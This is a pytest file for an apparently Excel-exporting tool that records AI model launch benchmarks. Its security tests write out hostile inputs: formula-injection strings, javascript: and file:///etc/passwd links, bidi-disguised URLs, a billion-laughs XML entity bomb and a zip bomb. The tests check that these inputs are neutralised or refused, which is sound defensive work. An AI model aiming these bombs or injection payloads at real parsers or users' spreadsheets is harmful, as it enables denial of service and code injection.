def test_table_columns_match_headers_for_hostile_names(tmp_path: Path, launch: Launch) -> None:
    """With hostile model names, every Table's column names still equal its header cells."""
    names = ("=_x0041_ evil\n\x01", "=1+2", "+1+2", "\ufffd", "Muse Spark")
    models = tuple(
        attrs.evolve(model, name=name, variant=None)
        for model, name in zip(launch.models, names, strict=True)
    )
    record = attrs.evolve(launch, models=models)
    path = tmp_path / "names.xlsx"
    with pytest.warns(XlsxTextWarning):
        _export(record, path)
    workbook = openpyxl.load_workbook(path)
    for ws in workbook.worksheets:
        for table in ws.tables.values():
            header = [unescape_text(str(cell.value)) for cell in ws[1]]
            assert [column.name for column in table.tableColumns] == header, ws.title
            assert len({name.casefold() for name in header}) == len(header)
    assert read_workbook(path) == record


def test_only_web_and_mail_links_become_hyperlinks(tmp_path: Path, launch: Launch) -> None:
    """http, https and mailto URLs are hyperlinks; javascript:, file: and others stay plain text."""
    urls = ("https://example.com/a?b=1", "http://example.org", "mailto:desk@example.com",
            "javascript:alert(1)", "file:///etc/passwd", "ftp://example.com/x", "www.example.com")  # fmt: skip
    sources = tuple(
        Source(id=f"s{i}", name=f"S{i}", kind=SourceKind.PRESS, url=url)
        for i, url in enumerate(urls)
    )
    record = attrs.evolve(launch, sources=launch.sources + sources)
    path = _export(record, tmp_path / "links.xlsx")
    ws = openpyxl.load_workbook(path)["Sources"]
    links = {
        cell.value: cell.hyperlink.target
        for row in ws.iter_rows()
        for cell in row
        if cell.hyperlink
    }
    assert links == {url: url for url in urls[:3]}
    assert read_workbook(path) == record


@pytest.mark.parametrize(
    "hidden",
    ["\u202e", "\u200b", "\u200e", "\u2066", "\ufeff", "\u00ad", "\u00a0", "\u3000",
     "\u2028", "\x7f", "\x85", "\t"],
)  # fmt: skip
def test_urls_with_hidden_characters_stay_text(tmp_path: Path, launch: Launch, hidden: str) -> None:
    """A URL holding a bidi override, an invisible format character, a control or a space is no hyperlink."""
    url = f"https://example.com/{hidden}moc.elpmaxe-live"
    source = Source(id="hidden", name="Hidden", kind=SourceKind.PRESS, url=url)
    record = attrs.evolve(launch, sources=(*launch.sources, source))
    path = _export(record, tmp_path / "hidden.xlsx")
    ws = openpyxl.load_workbook(path)["Sources"]
    links = {cell.value for row in ws.iter_rows() for cell in row if cell.hyperlink}
    assert url not in links
    assert "https://example.com/" + "moc.elpmaxe-live" not in links
    assert {s.url for s in launch.sources if s.url} <= links
    assert read_workbook(path) == record


def test_hyperlinks_are_capped(
    tmp_path: Path, launch: Launch, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Past Excel's per-sheet hyperlink limit, URLs stay plain text."""
    monkeypatch.setattr(xlsx_module, "EXCEL_MAX_HYPERLINKS", 2)
    sources = tuple(
        Source(id=f"s{i}", name=f"S{i}", kind=SourceKind.PRESS, url=f"https://example.com/{i}")
        for i in range(4)
    )
    path = _export(attrs.evolve(launch, sources=launch.sources + sources), tmp_path / "cap.xlsx")
    ws = openpyxl.load_workbook(path)["Sources"]
    assert sum(1 for row in ws.iter_rows() for cell in row if cell.hyperlink) == 2


@pytest.mark.parametrize(
    ("text", "ok"),
    [("a" * 32_767, True), ("a" * 32_768, False), ("🚀" * 16_384, False), ("\x01" * 5_000, False)],
    ids=["at-limit", "over-limit", "emoji-utf16", "escapes-grow"],
)
def test_cell_length_limit(tmp_path: Path, launch: Launch, text: str, ok: bool) -> None:
    """Text over Excel's 32,767-character cell limit (as stored) is an ExportError naming the field, before writing."""
    results = list(launch.results)
    results[2] = attrs.evolve(results[2], claim=text)
    record = attrs.evolve(launch, results=tuple(results))
    stream = io.BytesIO()
    target = tmp_path / "long.xlsx"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", XlsxTextWarning)
        if ok:
            XlsxExporter().export(record, target)
            assert read_workbook(target) == record
            return
        with pytest.raises(ExportError, match=r"results\[2\]\.claim: .* at most 32,767"):
            XlsxExporter().export(record, stream)
        with pytest.raises(ExportError):
            launchbrief.export(record, target)
    assert stream.getvalue() == b""
    assert not target.exists()
    assert list(tmp_path.iterdir()) == []


def test_too_many_rows_is_refused_before_writing(
    tmp_path: Path, launch: Launch, monkeypatch: pytest.MonkeyPatch
) -> None:
    """More results than a sheet holds is an ExportError before any byte is written."""
    monkeypatch.setattr(xlsx_module, "EXCEL_MAX_ROWS", len(launch.results))
    target = tmp_path / "rows.xlsx"
    target.write_bytes(b"old")
    with pytest.raises(ExportError, match="the Results sheet would need 16 rows"):
        launchbrief.export(launch, target)
    assert target.read_bytes() == b"old"


# --------------------------------------------------------------------------- options and output


def test_two_exports_are_byte_identical(tmp_path: Path, launch: Launch) -> None:
    """The same record gives the same bytes, already in normalize_zip()'s form."""
    first = _export(launch, tmp_path / "a.xlsx").read_bytes()
    stream = io.BytesIO()
    XlsxExporter().export(launch, stream)
    assert stream.getvalue() == first
    assert normalize_zip(first) == first


def test_source_date_epoch_is_honoured(
    tmp_path: Path, launch: Launch, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With SOURCE_DATE_EPOCH set, document times and zip entry times follow it."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1780000000")
    path = _export(launch, tmp_path / "epoch.xlsx")
    moment = datetime.fromtimestamp(1780000000, tz=UTC).replace(tzinfo=None)
    assert openpyxl.load_workbook(path, read_only=True).properties.created == moment
    with zipfile.ZipFile(path) as archive:
        assert {info.date_time for info in archive.infolist()} == {moment.timetuple()[:6]}


def test_options(tmp_path: Path, launch: Launch) -> None:
    """Sheets, charts and accent options shape the workbook; bad options are ExportErrors."""
    path = _export(launch, tmp_path / "o.xlsx", sheets=["charts", "Results"], accent="#00AA55")
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["Charts", "Results"]  # the charts draw their own tables
    assert workbook["Results"]["B1"].fill.fgColor.rgb.endswith("00AA55")  # A1: computed
    path = _export(launch, tmp_path / "n.xlsx", charts=False)
    with zipfile.ZipFile(path) as archive:
        assert not [n for n in archive.namelist() if n.startswith("xl/charts/")]
    assert "Charts" not in openpyxl.load_workbook(path, read_only=True).sheetnames
    assert read_workbook(path) == launch
    for options, message in (
        ({"accent": "blue"}, "accent must be a colour"),
        ({"sheets": ["Nope"]}, "unknown sheet 'Nope'"),
        ({"sheets": "Results"}, "a list of sheet names"),
        ({"sheets": []}, "no sheets chosen"),
    ):
        with pytest.raises(ExportError, match=message):
            XlsxExporter().export(launch, io.BytesIO(), **options)


def test_large_record_streams_and_reads_back(tmp_path: Path, launch: Launch) -> None:
    """A record past the row-fitting threshold exports in streaming mode and reads back equal."""
    benchmarks = tuple(
        attrs.evolve(launch.benchmarks[0], id=f"b{i}", name=f"Benchmark {i}") for i in range(260)
    )
    results = tuple(
        Result(
            benchmark=b.id, model=m.id, score=float((i * 7 + j) % 100) + 0.25, sources=("article",)
        )
        for i, b in enumerate(benchmarks)
        for j, m in enumerate(launch.models)
    )
    results += tuple(
        Result(benchmark=b.id, model=m.id, mode=mode.id, score=50.5, claim="c" * 120)
        for b in benchmarks
        for m in launch.models
        for mode in launch.modes
    )
    record = attrs.evolve(launch, benchmarks=benchmarks, results=results)
    assert len(record.results) > xlsx_module._FITTED_ROWS
    path = _export(record, tmp_path / "big.xlsx")
    assert read_workbook(path) == record


# --------------------------------------------------------------------------- hostile workbooks


def _rewrite(
    path: Path, target: Path, replace: dict[str, bytes], add: dict[str, bytes] | None = None
) -> Path:
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            out.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
        for name, data in (add or {}).items():
            out.writestr(name, data)
    return target


_BILLION_LAUGHS = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>"""


def _timed_refusal(read: Callable[[], Any]) -> tuple[InvalidLaunchError, float, int]:
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(InvalidLaunchError) as caught:
            read()
        return caught.value, time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


# The Results sheet is the fourth sheet of the workbook.
_RESULTS_PART = "xl/worksheets/sheet4.xml"


def test_entity_bomb_is_refused_fast(workbook_path: Path, tmp_path: Path) -> None:
    """A workbook whose sheet declares entities is refused in well under a second, without a memory spike."""
    bomb = _rewrite(workbook_path, tmp_path / "bomb.xlsx", {_RESULTS_PART: _BILLION_LAUGHS})
    error, seconds, peak = _timed_refusal(lambda: launchbrief.load(bomb))
    assert "entity bomb" in str(error)
    assert seconds < 1.0
    assert peak < 20 * 2**20


def test_openpyxl_parses_with_defusedxml(workbook_path: Path, tmp_path: Path) -> None:
    """openpyxl itself (without our check) refuses the entity bomb: it parses with defusedxml."""
    assert openpyxl.DEFUSEDXML is True
    bomb = _rewrite(workbook_path, tmp_path / "bomb.xlsx", {_RESULTS_PART: _BILLION_LAUGHS})

    def read_all(stream: IO[bytes]) -> None:
        workbook = openpyxl.load_workbook(stream, read_only=True)
        list(workbook["Results"].iter_rows(values_only=True))

    with bomb.open("rb") as stream, pytest.raises((DefusedXmlException, ValueError)) as caught:
        read_all(stream)
    chain = [caught.value, caught.value.__cause__, caught.value.__context__]
    assert any(isinstance(error, DefusedXmlException) for error in chain)


def test_entities_past_the_first_bytes_are_refused(workbook_path: Path, tmp_path: Path) -> None:
    """A DTD hidden behind a long comment is found: every XML part is searched over its whole length."""
    padded = _BILLION_LAUGHS.replace(
        b"<!DOCTYPE", b"<!--" + b" " * (100 * 1024) + b"-->\n<!DOCTYPE", 1
    )
    bomb = _rewrite(workbook_path, tmp_path / "padded.xlsx", {_RESULTS_PART: padded})
    error, seconds, _peak = _timed_refusal(lambda: launchbrief.load(bomb))
    assert f"{_RESULTS_PART} declares a document type or entities" in str(error)
    assert seconds < 1.0


def test_zip_bomb_is_refused_fast(workbook_path: Path, tmp_path: Path) -> None:
    """An entry that unpacks to hundreds of times its size is refused at once, nothing unpacked."""
    zeros = b"\0" * (64 * 2**20)
    bomb = _rewrite(workbook_path, tmp_path / "zip.xlsx", {}, {"xl/media/padding.bin": zeros})
    del zeros
    error, seconds, peak = _timed_refusal(lambda: launchbrief.load(bomb))
    assert "zip bomb" in str(error)
    assert seconds < 1.0
    assert peak < 20 * 2**20


def test_unpacked_size_is_capped(workbook_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A workbook that would unpack past the size limit is refused before anything is unpacked."""
    monkeypatch.setattr(_archive, "MAX_UNCOMPRESSED_BYTES", 10_000)
    with pytest.raises(InvalidLaunchError, match=r"would unpack to .* possible zip bomb"):
        launchbrief.load(workbook_path)


def test_not_a_workbook(tmp_path: Path) -> None:
    """A file that is not a zip archive, or a damaged one, is an InvalidLaunchError naming the file."""
    text = tmp_path / "notes.xlsx"
    text.write_text("id: muse-spark\n")
    with pytest.raises(InvalidLaunchError, match=r"notes\.xlsx: not an Excel workbook"):
        launchbrief.load(text)
    broken = tmp_path / "broken.xlsx"
    with zipfile.ZipFile(broken, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    with pytest.raises(
        InvalidLaunchError, match=r"broken\.xlsx: not a workbook launchbrief can read"
    ):
        launchbrief.load(broken)


# --------------------------------------------------------------------------- LibreOffice


def _lines(path: Path) -> io.StringIO:
    """A CSV file's text, with line breaks inside cells kept as they are."""
    with path.open(encoding="utf-8", newline="") as stream:
        return io.StringIO(stream.read(), newline="")


@pytest.mark.office
def test_libreoffice_converts_every_sheet_to_csv(workbook_path: Path, tmp_path: Path) -> None:
    """LibreOffice writes one CSV per sheet, holding the article numbers at the right benchmark and model."""
    convert([workbook_path], tmp_path, CSV_EVERY_SHEET)
    files = {
        p.name.removeprefix("muse-spark-").removesuffix(".csv"): p for p in tmp_path.glob("*.csv")
    }
    assert sorted(files) == sorted(SHEETS)
    for name, path in files.items():
        assert path.stat().st_size > 0, name
    results = list(csv.DictReader(_lines(files["Results"])))
    found = {(r["Benchmark"], r["Model"]): r["Score"] for r in results if r["Score"]}
    matrix_rows = list(csv.reader(_lines(files["Benchmarks"])))
    header = [value.removesuffix(" (launched)") for value in matrix_rows[0]]
    matrix = {row[0]: dict(zip(header, row, strict=True)) for row in matrix_rows[1:]}
    for benchmark, model, score in ARTICLE_NUMBERS:
        assert float(found[benchmark, model]) == score
        assert float(matrix[benchmark][model]) == score
    assert results[0]["Vendor only"] == "TRUE"


@pytest.mark.office
def test_libreoffice_converts_to_pdf(workbook_path: Path, tmp_path: Path) -> None:
    """LibreOffice prints the workbook to PDF, and the PDF holds the title, the sheets' text and the numbers."""
    convert([workbook_path], tmp_path, "pdf")
    pdf = tmp_path / "muse-spark.pdf"
    assert pdf.is_file()
    assert pdf.stat().st_size > 10_000
    text = subprocess.run(
        ["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "Meta launches Muse Spark" in text
    for word in ("86.4", "42.8", "HealthBench Hard", "Apollo Research", "About this workbook"):
        assert word in text, word
    assert "###" not in text  # no column too narrow for its number


@pytest.mark.office
def test_workbook_resaved_by_libreoffice_loads_back(
    workbook_path: Path, tmp_path: Path, launch: Launch
) -> None:
    """The workbook saved again by LibreOffice (shared strings, its own styles) reads back equal."""
    convert([workbook_path], tmp_path, "xlsx")
    resaved = tmp_path / "muse-spark.xlsx"
    assert resaved.is_file()
    assert read_workbook(resaved) == launch


@pytest.mark.office
def test_libreoffice_keeps_payloads_as_text(tmp_path: Path, launch: Launch) -> None:
    """LibreOffice shows injection payloads literally: nothing is evaluated (=1+2 is not 3)."""
    record = _evolve_texts(launch, _cycle(OWASP_PAYLOADS))
    path = _export(record, tmp_path / "owasp.xlsx")
    convert([path], tmp_path, CSV_EVERY_SHEET)
    rows = list(csv.reader(_lines(tmp_path / "owasp-Insights.csv")))
    texts = [row[2] for row in rows[1:]]
    assert texts == [record_insight.text for record_insight in record.insights]
    assert "=1+2" in texts


def test_extreme_scores_round_trip(tmp_path: Path, launch: Launch) -> None:
    """Scores at the model's limits and needing 17 digits read back exactly (openpyxl alone writes 16)."""
    benchmark = attrs.evolve(launch.benchmarks[0], id="elo", name="Elo", scale=Scale.ELO)
    results = (
        Result(benchmark="elo", model="muse-spark", score=1e15),
        Result(benchmark="elo", model="gpt-5-4", score=-1e15),
        Result(benchmark="elo", model="grok-4-2", score=0.30000000000000004),
        Result(benchmark="elo", model="claude-opus-4-6", score=5e-324),
    )
    record = attrs.evolve(
        launch, benchmarks=(*launch.benchmarks, benchmark), results=launch.results + results
    )
    path = _export(record, tmp_path / "extreme.xlsx")
    rows = {(r["Benchmark id"], r["Model id"]): r for r in _records(_rows(path, "Results"))}
    assert rows["elo", "gpt-5-4"]["Score"] == -1e15
    assert rows["elo", "gpt-5-4"]["Gap to leader"] == 2e15
    assert rows["elo", "grok-4-2"]["Score"] == 0.30000000000000004
    assert rows["elo", "claude-opus-4-6"]["Score"] == 5e-324
    assert read_workbook(path) == record


def test_launch_date_before_excel_dates(tmp_path: Path, launch: Launch) -> None:
    """Dates Excel cannot hold as dates (before March 1900) are written as ISO text and read back."""
    record = attrs.evolve(
        launch,
        dates=(DatedEvent(event="announced", date=date(1, 1, 1)),),
        as_of=date(1899, 12, 31),
    )
    path = _export(record, tmp_path / "old.xlsx")
    values = {row[0]: row[1] for row in _rows(path, "Launch")}
    assert values["as_of"] == "1899-12-31"
    assert _rows(path, "Dates")[1][:2] == ("announced", "0001-01-01")
    assert read_workbook(path) == record


# --------------------------------------------------------------------------- schema 2

ASTER = Path(__file__).parents[3] / "shared/data/aster-2.yaml"
V1_WORKBOOK = Path(__file__).parents[1] / "data/v1/muse-spark.xlsx"


@pytest.fixture(scope="module")
def aster() -> Launch:
    """The illustrative schema-2 record: a family, cohorts, specs, licence, dates in conflict."""
    return launchbrief.load(ASTER)


@pytest.fixture(scope="module")
def aster_path(tmp_path_factory: pytest.TempPathFactory, aster: Launch) -> Path:
    """aster-2's workbook."""
    return _export(aster, tmp_path_factory.mktemp("aster") / "aster-2.xlsx")


def _cells(path: Path, sheet: str) -> list[dict[str, Any]]:
    """A sheet's rows as {header: openpyxl cell}."""
    ws = openpyxl.load_workbook(path)[sheet]
    header = [cell.value for cell in ws[1]]
    return [dict(zip(header, row, strict=False)) for row in ws.iter_rows(min_row=2)]


def test_aster_reads_back_equal_and_as_written(aster_path: Path, aster: Launch) -> None:
    """aster-2's workbook loads equal, and its dump is the record's own, numbers as written."""
    back = launchbrief.load(aster_path)
    assert back == aster
    text = launchbrief.dumps(back)
    assert text == launchbrief.dumps(aster)
    for written in ("score: 66.0", "score: 85.20", "score: 88.0", "score: 0.0007"):
        assert written in text
    assert "parameters: 400e9" in text
    assert [model.id for model in back.launched] == ["aster-2-small", "aster-2-large"]


def test_scores_keep_their_written_precision(aster_path: Path) -> None:
    """Each score's number format shows its written decimals; a nonzero score never shows 0."""
    formats = {
        (row["Benchmark id"].value, row["Cohort id"].value, row["Model id"].value): row["Score"]
        for row in _cells(aster_path, "Results")
    }
    for key, value, number_format in (
        (("mmlu", "base", "aster-2-small"), 66.0, "#,##0.0"),
        (("mmlu", "base", "aster-2-large"), 85.2, "#,##0.00"),
        (("mmlu", "instruct", "aster-2-large"), 88.0, "#,##0.0"),
        (("racket", "base", "aster-2-small"), 0.0007, "#,##0.0000"),
        (("mt-bench", "instruct", "rival-b"), 8.9, "#,##0.00"),
    ):
        assert formats[key].value == value
        assert formats[key].number_format == number_format
    book = CalamineWorkbook.from_path(str(aster_path))
    scores = [r["Score"] for r in _records(book.get_sheet_by_name("Results").to_python())]
    assert 0.0007 in scores
    assert 85.2 in scores


def test_specs_keep_their_written_form(aster_path: Path) -> None:
    """Parameter counts are numbers shown as written: 8e9 as 8E+9, 400e9 as 400E+9."""
    models = {row["Model id"].value: row for row in _cells(aster_path, "Models")}
    large, small = models["aster-2-large"], models["aster-2-small"]
    assert large["Parameters"].value == 400e9
    assert large["Parameters"].number_format == "000E+0"
    assert small["Parameters"].number_format == "0E+0"
    assert large["Context window"].value == 1_048_576
    assert large["Knowledge cutoff"].value == "2025-12"
    assert [models[m]["Launched"].value for m in models] == [True, True, False, False]
    assert large["Modalities"].value == "text; images"


def test_results_carry_launch_cohort_and_settings(aster_path: Path, aster: Launch) -> None:
    """Results has the Launch id, the cohort's id and name, and the effective settings in words."""
    rows = _records(_rows(aster_path, "Results"))
    assert {row["Launch"] for row in rows} == {"aster-2"}
    by_key = {(r["Benchmark id"], r["Cohort id"], r["Model id"]): r for r in rows}
    base = by_key["mmlu", "base", "aster-2-large"]
    assert base["Cohort"] == "Pretrained models"
    assert base["Settings"] == "5-shot"
    assert base["Rank"] == 1
    assert base["Standing"] == "#1 of 3"
    instruct = by_key["mmlu", "instruct", "aster-2-large"]
    assert instruct["Settings"] == launchbrief.analysis.describe_settings(
        aster.settings(aster.results[4])
    )
    assert instruct["Rank"] == 2  # ranked within its cohort, not against the base models
    assert by_key["chartqa", "instruct", "rival-b"]["Standing"] == "in words only"
    cohorts = _records(_rows(aster_path, "Cohorts"))
    assert [(c["Cohort id"], c["Settings"]) for c in cohorts] == [
        ("base", "shots: 5"),
        ("instruct", "shots: 0; temperature: 0.6; top_p: 0.95"),
    ]


def test_unranked_results_have_no_rank_and_no_highlight(workbook_path: Path) -> None:
    """MMMU Pro and SimpleVQA, where no rival has a number: no rank, no gap, not ranked in the matrix."""
    rows = {
        (r["Benchmark id"], r["Model id"]): r for r in _records(_rows(workbook_path, "Results"))
    }
    for benchmark in ("mmmu-pro", "simplevqa"):
        row = rows[benchmark, "muse-spark"]
        assert row["Score"] is not None
        assert row["Rank"] is None
        assert row["Gap to leader"] is None
        assert row["Standing"] == "no rival numbers"
    assert rows["charxiv-reasoning", "muse-spark"]["Rank"] == 1
    matrix = {r["Leaderboard"]: r for r in _records(_rows(workbook_path, "Benchmarks"))}
    for name in ("MMMU Pro", "SimpleVQA"):
        assert matrix[name]["Ranked"] is False
        assert matrix[name]["Note"] == "no rival numbers: not ranked"
    assert matrix["CharXiv Reasoning"]["Ranked"] is True
    summary = [v for row in _rows(workbook_path, "Summary") for v in row if isinstance(v, str)]
    assert "80.4 on MMMU Pro (no rival numbers given)" in summary
    assert not any("leads" in v and "MMMU Pro" in v for v in summary)


def test_matrix_rows_are_leaderboards(aster_path: Path, aster: Launch) -> None:
    """One matrix row per benchmark and cohort; rivals' words are noted cells; warnings in Note."""
    ws = openpyxl.load_workbook(aster_path)["Benchmarks"]
    header = [cell.value for cell in ws[1]]
    rows = {row[0].value: dict(zip(header, row, strict=True)) for row in ws.iter_rows(min_row=2)}
    assert set(rows) == {board.title for board in launchbrief.leaderboards(aster)}
    assert rows["MMLU (Pretrained models)"]["Aster 2 Small (launched)"].value == 66.0
    assert rows["MMLU (Instruction-tuned models)"]["Rival B"].value == 89.3
    chartqa = rows["ChartQA (Instruction-tuned models)"]["Rival B"]
    assert chartqa.value is None
    assert chartqa.comment.text.startswith("no multimodal support")
    assert rows["Solo Bench (Instruction-tuned models)"]["Ranked"].value is False


def test_comparability_warning_is_shown(tmp_path: Path, aster: Launch) -> None:
    """A leaderboard whose entries ran under different settings says so in Results, Benchmarks and Summary."""
    results = list(aster.results)
    results[2] = attrs.evolve(results[2], settings=Settings(shots=3))  # rival-a, mmlu base
    record = attrs.evolve(aster, results=tuple(results))
    warning = next(b.warning for b in launchbrief.leaderboards(record) if b.warning)
    path = _export(record, tmp_path / "mixed.xlsx")
    rows = _records(_rows(path, "Results"))
    assert rows[2]["Result settings"] == "shots: 3"
    assert {r["Comparability"] for r in rows[:3]} == {warning}
    matrix = {r["Leaderboard"]: r for r in _records(_rows(path, "Benchmarks"))}
    assert matrix["MMLU (Pretrained models)"]["Note"] == warning
    summary = [v for row in _rows(path, "Summary") for v in row if isinstance(v, str)]
    assert warning in summary
    assert read_workbook(path) == record


def test_summary_shows_line_up_conflicts_and_family(aster_path: Path, aster: Launch) -> None:
    """The Summary names both launched models with specs and licence, the date conflict and the gaps."""
    summary = [v for row in _rows(aster_path, "Summary") for v in row if isinstance(v, str)]
    text = "\n".join(summary)
    assert "Aster 2 Small, Aster 2 Large" in summary
    assert "Line-up" in summary
    assert any(
        v.startswith("400B parameters; 40B active parameters") or "400B parameters" in v
        for v in summary
    )
    assert "license: Aster Community License, open weights" in text
    (conflict,) = launchbrief.conflicts(aster)
    assert conflict.detail in summary
    assert "The family on each leaderboard" in summary
    for line in launchbrief.analysis.gap_summary(aster):
        assert line in summary
    dates = _records(_rows(aster_path, "Dates"))
    assert [d.get("Conflict") for d in dates] == [conflict.detail, conflict.detail, None]


def test_charts_follow_each_scale(aster_path: Path) -> None:
    """A 0–10 points benchmark gets a 0–10 axis; percentile and percent axes run 0–100 without a % sign."""
    axes = {}
    for chart in _charts(aster_path):
        title = "".join(t.text or "" for t in chart.find(f"{_C}chart/{_C}title").iter(f"{_A}t"))
        scaling = chart.find(f"{_C}chart/{_C}plotArea/{_C}valAx/{_C}scaling")
        bounds = tuple(
            float(e.get("val")) if e is not None else None
            for e in (scaling.find(f"{_C}min"), scaling.find(f"{_C}max"))
        )
        number_format = chart.find(f"{_C}chart/{_C}plotArea/{_C}valAx/{_C}numFmt").get("formatCode")
        axes[title] = (bounds, number_format)
    assert axes["MT-Bench (Instruction-tuned models) (points, 0 to 10, higher is better)"][0] == (
        0.0,
        10.0,
    )
    assert axes["Codeforces (Instruction-tuned models) (percentile, higher is better)"] == (
        (0.0, 100.0),
        "0",
    )
    assert axes["MultiPL-E Racket (Pretrained models) (fraction, higher is better)"][0] == (
        0.0,
        1.0,
    )
    pile = "Pile test (bits per byte) (Pretrained models) (points, lower is better)"
    assert axes[pile][0] == (None, None)
    assert not any("%" in number_format for _bounds, number_format in axes.values())


def test_edited_settings_and_specs_read_back(tmp_path: Path, aster: Launch) -> None:
    """Settings and specs typed into their cells read back typed, free keys included."""
    path = _export(aster, tmp_path / "typed.xlsx")
    workbook = openpyxl.load_workbook(path)
    ws = workbook["Results"]
    header = [cell.value for cell in ws[1]]
    ws.cell(2, header.index("Result settings") + 1, 'shots: 3; metric: pass@1; note: "a; b"')
    models = workbook["Models"]
    header = [cell.value for cell in models[1]]
    models.cell(2, header.index("Other specs") + 1, "layers: 32; training_tokens: 14e12")
    workbook.save(path)
    back = launchbrief.load(path)
    assert back.results[0].settings == Settings(
        shots=3, other=(("metric", "pass@1"), ("note", "a; b"))
    )
    assert back.models[0].specs is not None
    assert dict(back.models[0].specs.other) == {"layers": 32, "training_tokens": 14e12}


def test_bad_cohort_reference_is_located(tmp_path: Path, aster: Launch) -> None:
    """A mistyped cohort id, a bad settings cell and a spec given twice are each reported at their cell."""
    path = _export(aster, tmp_path / "cohort.xlsx")
    workbook = openpyxl.load_workbook(path)
    ws = workbook["Results"]
    header = [cell.value for cell in ws[1]]
    cohort = get_column_letter(header.index("Cohort id") + 1)
    own = get_column_letter(header.index("Result settings") + 1)
    ws[f"{cohort}5"] = "instrct"  # results[3]
    ws[f"{own}6"] = "shots five"  # results[4]
    models = workbook["Models"]
    header = [cell.value for cell in models[1]]
    other = get_column_letter(header.index("Other specs") + 1)
    models[f"{other}3"] = "parameters: 5"  # aster-2-large has a Parameters cell
    workbook.save(path)
    assert [str(p) for p in _problems_of(path)] == [
        f"{path}: Results!{cohort}5 (Cohort id): results[3].cohort: unknown cohort 'instrct'"
        " (known: base, instruct; did you mean 'instruct'?)",
        f"{path}: Results!{own}6 (Result settings): results[4].settings: 'shots five' is not"
        " 'key: value'; write settings as 'shots: 5; temperature: 0.6'",
        f"{path}: Models!{other}3 (Other specs): models[1].specs: 'parameters' is given twice:"
        " in this cell and in its own column",
    ]


def _problems_of(path: Path) -> list[Any]:
    with pytest.raises(InvalidLaunchError) as caught:
        launchbrief.load(path)
    return list(caught.value.problems)


def test_version_1_workbook_loads() -> None:
    """A workbook exported by launchbrief 0.1.0 (schema 1) loads with the built-in launch's facts."""
    assert facts(launchbrief.load(V1_WORKBOOK)) == facts(launchbrief.load("muse-spark"))


@given(
    st.lists(
        st.tuples(
            st.from_regex(r"[A-Za-z][A-Za-z0-9_]{0,10}", fullmatch=True),
            st.one_of(
                st.booleans(),
                st.integers(-(10**6), 10**6),
                st.floats(allow_nan=False, allow_infinity=False),
                st.text(min_size=1).filter(str.strip),
            ),
        ),
        unique_by=lambda pair: pair[0],
        max_size=5,
    ),
    st.lists(st.text(min_size=1).filter(str.strip), max_size=5),
)
def test_list_and_mapping_cells_round_trip(pairs: list[tuple[str, Any]], items: list[str]) -> None:
    """Any settings mapping and any list of texts survive their one-cell form."""
    text = format_mapping(pairs)
    assert (parse_mapping(text) if text is not None else {}) == dict(pairs)
    listed = format_list(items)
    assert (parse_list(listed) if listed is not None else []) == items


@pytest.mark.office
def test_libreoffice_shows_numbers_as_written(aster_path: Path, tmp_path: Path) -> None:
    """LibreOffice prints 85.20, 66.0 and 0.0007 as written, and re-saved, the workbook reads back equal."""
    convert([aster_path], tmp_path, "pdf")
    text = subprocess.run(
        ["pdftotext", str(tmp_path / "aster-2.pdf"), "-"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    for written in ("85.20", "66.0", "0.0007", "8.90", "no rival numbers"):
        assert written in text, written
    resaved = tmp_path / "resaved"
    resaved.mkdir()
    convert([aster_path], resaved, "xlsx")
    back = read_workbook(resaved / "aster-2.xlsx")
    assert back == launchbrief.load(ASTER)
    assert "score: 85.20" in launchbrief.dumps(back)


# --------------------------------------------------------------------------- polish: words, stacking, print


def test_house_colors_are_the_decks() -> None:
    """The workbook's copy of the house colors equals the deck's palette (no python-pptx import)."""
    assert xlsx_module.DEFAULT_ACCENT == f"#{palette.DEFAULT_ACCENT}"
    assert _colors.RIVAL_GREYS == palette.RIVAL_GREYS
    assert _colors.STATUS_COLORS == palette.STATUS_COLORS


def test_data_sheets_show_words_not_codes(workbook_path: Path) -> None:
    """Kinds, statuses, scales and directions read as words; the drop-down lists offer the words."""
    rollout = _records(_rows(workbook_path, "Rollout"))
    assert [row["Status"] for row in rollout[:3]] == ["Live", "Live", "Planned"]
    assert {row["Kind"] for row in rollout} >= {"App", "Web", "Messaging", "API"}
    sources = {row["Kind"] for row in _records(_rows(workbook_path, "Sources"))}
    assert sources <= {"Vendor", "Press", "Third-party", "Independent"}
    assert "Press" in sources
    details = _records(_rows(workbook_path, "Benchmark details"))
